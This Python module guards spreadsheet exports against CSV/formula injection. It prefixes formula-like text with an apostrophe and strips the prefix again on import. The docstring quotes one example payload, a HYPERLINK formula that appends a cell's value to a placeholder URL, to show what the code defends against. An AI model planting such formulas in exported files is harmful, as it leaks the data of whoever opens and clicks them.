"""Exported text never runs as a formula (CSV / formula injection), and reads back as it was.

A product name imported from a supplier's file, such as ``=HYPERLINK("http://x/"&B3,"Xem")``,
must reach the clerk's Excel as the text it is. Spreadsheet programs start a formula on a
cell beginning with ``=``, ``+``, ``-`` or ``@`` (and some strip a leading tab or carriage
return first), so text beginning with any of these is "formula-like" (OWASP, "CSV Injection").

* In .xlsx files such text is written as a string cell (never a formula cell) with Excel's
  quote-prefix style, so editing the cell in Excel keeps it text too (see ``xlsx.write_sheet``).
* In .csv files, which carry no types, it is written with a leading apostrophe, the usual
  defence; our own importer removes that apostrophe again (``unguard_csv_text``).
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_GUARD = "'"


def looks_like_formula(value: object) -> bool:
    """True for text a spreadsheet program could take as a formula (begins with a trigger)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def guard_csv_text(text: str) -> str:
    """A CSV cell's text: formula-like text gets a leading apostrophe; anything else is unchanged."""
    return CSV_GUARD + text if looks_like_formula(text) else text


def unguard_csv_text(text: str) -> str:
    """Undo ``guard_csv_text`` on a cell read from a CSV file (only an apostrophe before a trigger)."""
    if text.startswith(CSV_GUARD) and looks_like_formula(text[1:]):
        return text[1:]
    return text
